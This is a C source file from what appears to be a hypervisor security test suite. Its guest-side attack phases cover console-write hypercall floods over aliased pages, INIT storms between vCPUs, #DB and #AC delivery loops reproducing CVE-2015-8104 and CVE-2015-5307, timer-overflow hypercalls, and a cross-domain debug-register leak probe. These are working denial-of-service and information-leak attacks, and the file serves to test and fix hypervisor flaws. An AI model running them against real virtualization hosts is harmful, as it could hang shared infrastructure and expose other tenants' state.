/*
 * Attacks through the vCPUs themselves (issue 10, findings 2, 3, 4, 10):
 * INIT storms between vCPUs, #AC and #DB delivery loops, debug registers
 * that leak to other domains, and console writes of 4 GiB aliased onto four
 * pages of our page tables.
 */
#include "storm.h"
#include "common/trap.h"

#define AC_BASE 0x9000
#define AC_RESULT 0x9ff0
#define ALIAS_VA 0x100000000ULL /* [4 GiB, 8 GiB): four pages, over and over */
#define STORM_DR_MAGIC 0x5354524d00000000ULL

extern const char ac_trampoline[], ac_trampoline_end[];
void db_loop_entry(void);
extern volatile uint64_t db_handler_runs;

static uint64_t alias_pd[512] __attribute__((aligned(4096)));
static uint64_t alias_pt[512] __attribute__((aligned(4096)));
static uint8_t alias_data[4][4096] __attribute__((aligned(4096))); /* NULs: nothing gets printed */
static volatile bool dr_faulted[SMP_MAX_CPUS], dr_probing[SMP_MAX_CPUS];

/* #GP from a debug-register move (3 bytes) while probing: note it, skip it. */
static bool dr_gp(struct trap_frame *f)
{
    unsigned int cpu = smp_this_cpu();
    if (cpu >= SMP_MAX_CPUS || !dr_probing[cpu])
        return false;
    dr_faulted[cpu] = true;
    f->rip += 3;
    return true;
}

static bool write_debug_registers(unsigned int cpu, const uint64_t dr[4], uint64_t dr7)
{
    dr_faulted[cpu] = false;
    dr_probing[cpu] = true;
    __asm__ volatile("mov %0, %%dr0" ::"a"(dr[0]));
    __asm__ volatile("mov %0, %%dr1" ::"a"(dr[1]));
    __asm__ volatile("mov %0, %%dr2" ::"a"(dr[2]));
    __asm__ volatile("mov %0, %%dr3" ::"a"(dr[3]));
    __asm__ volatile("mov %0, %%dr7" ::"a"(dr7));
    dr_probing[cpu] = false;
    return !dr_faulted[cpu];
}

void storm_cpu_setup(void)
{
    uint64_t *pdpt = guest_pdpt();
    for (unsigned int i = 0; i < 512; i++) {
        alias_pd[i] = (uint64_t)(uintptr_t)alias_pt | 0x3;
        alias_pt[i] = (uint64_t)(uintptr_t)alias_data[i % 4] | 0x1;
    }
    for (unsigned int i = 4; i < 8; i++)
        pdpt[i] = (uint64_t)(uintptr_t)alias_pd | 0x3;
    guest_flush_tlb();
    memcpy((void *)AC_BASE, ac_trampoline, (size_t)(ac_trampoline_end - ac_trampoline));
    guest_trap_set(13, dr_gp);
}

/* Finding 4: console_io walks the guest's page tables per 4 KiB, without
 * a preemption point: the APs ask for 4 GiB each (over and over) and are
 * stopped by INIT at the end of the phase, which a hypercall that cannot be
 * preempted does not allow. */
static void console_worker(unsigned int cpu)
{
    while (phase_running())
        HYPERVISOR_console_write((const void *)ALIAS_VA, 0xffffffffUL);
}

void phase_console(void)
{
    for (unsigned int cpu = 1; cpu < S.cpus; cpu++)
        if (smp_start(cpu, console_worker))
            storm_bug("vCPU %u did not start within a second of INIT and STARTUP", cpu);
    while (phase_running())
        guest_sleep_ms(5);
    stop_aps();
    /* Our NULs used up this second's console budget: what we print now
     * would be dropped. */
    guest_sleep_ms(1100);
    guest_printf("storm: console: 4 GiB aliased writes on %u vCPUs, ended by INIT\n", S.cpus - 1);
}

/* Finding 3: vCPUs 1 and 2 send each other INIT as fast as they can; we
 * start whichever is down again. */
static uint64_t inits_sent[SMP_MAX_CPUS];

static void init_worker(unsigned int cpu)
{
    unsigned int peer = cpu == 1 ? 2 : 1;
    while (phase_running()) {
        smp_send_init(peer);
        inits_sent[cpu]++;
    }
}

void phase_init(void)
{
    uint64_t restarts = 0, missed = 0;
    while (phase_running()) {
        for (unsigned int cpu = 1; cpu <= 2; cpu++) {
            if (smp_is_up(cpu) || !phase_running())
                continue;
            if (smp_start(cpu, init_worker) == 0)
                restarts++;
            else
                missed++; /* its peer stopped it before it said hello */
        }
    }
    stop_aps();
    guest_printf("storm: init: vCPUs 1 and 2 sent each other %lu and %lu INITs; %lu restarts, %lu cut short\n",
                 inits_sent[1], inits_sent[2], restarts, missed);
    inits_sent[1] = inits_sent[2] = 0;
}

/*
 * Finding 2, #DB. phase_db_loop is CVE-2015-8104: a write breakpoint on the
 * IST stack slot where #DB delivery pushes SS, so that each delivery raises
 * the next #DB. phase_db puts the breakpoint on a plain variable: each write
 * must reach our handler. Both run only when asked for by name: QEMU 7.2's
 * TCG does not survive data breakpoints in a nested guest. The loop aborts
 * the emulator (softmmu/cpus.c:502, "assertion failed:
 * (!qemu_mutex_iothread_locked())") whatever the hypervisor does, and plain
 * breakpoints make it segfault within a few seconds (and now and then lose
 * a #DB), so neither says anything about the hypervisor there.
 */
struct tss64 {
    uint32_t reserved0;
    uint64_t rsp[3];
    uint64_t reserved1;
    uint64_t ist[7];
    uint64_t reserved2;
    uint16_t reserved3, iomap;
} __attribute__((packed));

static struct tss64 db_tss __attribute__((aligned(16)));
static uint8_t db_ist_stack[4096] __attribute__((aligned(4096)));
static uint64_t db_gdt[5] __attribute__((aligned(16)));
static volatile uint64_t db_triggers, db_variable;
static volatile bool db_no_dr, db_on_ist;

/* Our own GDT with a TSS whose IST 1 is db_ist_stack. */
static void db_load_tss(void)
{
    uint64_t base = (uint64_t)(uintptr_t)&db_tss, limit = sizeof(db_tss) - 1;
    db_tss.ist[0] = (uint64_t)(uintptr_t)&db_ist_stack[sizeof(db_ist_stack)];
    db_tss.iomap = sizeof(db_tss);
    db_gdt[0] = 0;
    db_gdt[1] = 0x00af9a000000ffffULL;
    db_gdt[2] = 0x00cf92000000ffffULL;
    db_gdt[3] = (limit & 0xffff) | ((base & 0xffffff) << 16) | (0x89ULL << 40) | (((base >> 24) & 0xff) << 56);
    db_gdt[4] = base >> 32;
    struct {
        uint16_t limit;
        uint64_t base;
    } __attribute__((packed)) gdtr = { sizeof(db_gdt) - 1, (uint64_t)(uintptr_t)db_gdt };
    __asm__ volatile("lgdt %0; ltr %w1" ::"m"(gdtr), "r"(0x18));
}

static void db_worker(unsigned int cpu)
{
    db_load_tss();
    volatile uint64_t *target = db_on_ist ? (volatile uint64_t *)(uintptr_t)(db_tss.ist[0] - 8) : &db_variable;
    const uint64_t dr[4] = { (uint64_t)(uintptr_t)target, 0, 0, 0 };
    while (phase_running()) {
        /* DR0: 8-byte write breakpoint (RW0=01, LEN0=10), locally enabled. */
        if (!write_debug_registers(cpu, dr, 0x400 | 0x1 | (0x1 << 16) | (0x2 << 18))) {
            db_no_dr = true;
            return;
        }
        db_triggers++;
        *target = db_triggers;
    }
    const uint64_t none[4] = { 0 };
    write_debug_registers(cpu, none, 0x400);
}

static void run_db(bool on_ist)
{
    db_handler_runs = 0;
    db_triggers = 0;
    db_no_dr = false;
    db_on_ist = on_ist;
    guest_trap_set_raw(1, db_loop_entry, 1, 0);
    if (smp_start(1, db_worker))
        storm_bug("vCPU 1 did not start for the #DB attack");
    while (phase_running())
        guest_sleep_ms(5);
    stop_aps();
    guest_trap_set_default(1);
    if (db_no_dr)
        guest_printf("storm: db: writing the debug registers raised #GP: no #DB attack\n");
    else
        guest_printf("storm: db: %lu breakpoint writes%s, the #DB handler ran %lu times\n", db_triggers,
                     on_ist ? " on the #DB stack" : "", db_handler_runs);
}

void phase_db(void)
{
    run_db(false);
}

void phase_db_loop(void)
{
    run_db(true);
}

/* Finding 2, #AC (CVE-2015-5307): see storm_cpu_asm.S. */
void phase_ac(void)
{
    volatile uint32_t *result = (volatile uint32_t *)AC_RESULT;
    *result = 0;
    smp_send_startup(1, AC_BASE >> 12);
    while (phase_running())
        guest_sleep_ms(5);
    uint32_t r = *result;
    stop_aps();
    guest_printf("storm: ac: %s\n", r == 0x4341414e   ? "the CPU raised no #AC (no alignment checks here)"
                                    : r == 0x444e4148 ? "the #AC handler ran: no delivery loop"
                                                      : "vCPU 1 never got past the misaligned load (delivery loop)");
}

/* Timers a guest arms for the end of time: a period of 2^64 - 1 ns, whose
 * next deadline (now + period) wraps into the past, and absolute deadlines
 * of 2^64 - 1. None may fire in a loop; they may be refused. (Found by
 * the hypercall fuzzer, not in issue 10's list.) */
void phase_timers(void)
{
    struct vcpu_set_periodic_timer periodic = { .period_ns = ~0ULL };
    long rp = HYPERVISOR_vcpu_op(VCPUOP_set_periodic_timer, 0, &periodic);
    struct vcpu_set_singleshot_timer once = { .timeout_abs_ns = ~0ULL };
    long rs = HYPERVISOR_vcpu_op(VCPUOP_set_singleshot_timer, 0, &once);
    long rt = hypercall2(__HYPERVISOR_set_timer_op, ~0UL, 0);
    while (phase_running())
        guest_sleep_ms(5);
    HYPERVISOR_vcpu_op(VCPUOP_stop_periodic_timer, 0, NULL);
    HYPERVISOR_vcpu_op(VCPUOP_stop_singleshot_timer, 0, NULL);
    guest_printf("storm: timers: a period of 2^64-1 ns returned %ld, deadlines of 2^64-1 ns %ld and %ld\n", rp, rs,
                 rt);
}

/* Finding 10: DR0-DR3 are not switched between domains; the partner looks
 * for this value in its own. We sleep so that its vCPUs get our CPUs. */
static void debugregs_worker(unsigned int cpu)
{
    uint64_t dr[4];
    for (unsigned int i = 0; i < 4; i++)
        dr[i] = STORM_DR_MAGIC | (cpu << 8) | i;
    if (!write_debug_registers(cpu, dr, 0x400))
        return;
    while (phase_running())
        guest_sleep_ms(2);
    const uint64_t zero[4] = { 0 };
    write_debug_registers(cpu, zero, 0x400);
}

void phase_debugregs(void)
{
    on_all_cpus(debugregs_worker);
    guest_printf("storm: debugregs: %s\n", dr_faulted[0] ? "writing the debug registers raised #GP"
                                                         : "DR0-DR3 held our marker on every vCPU");
}
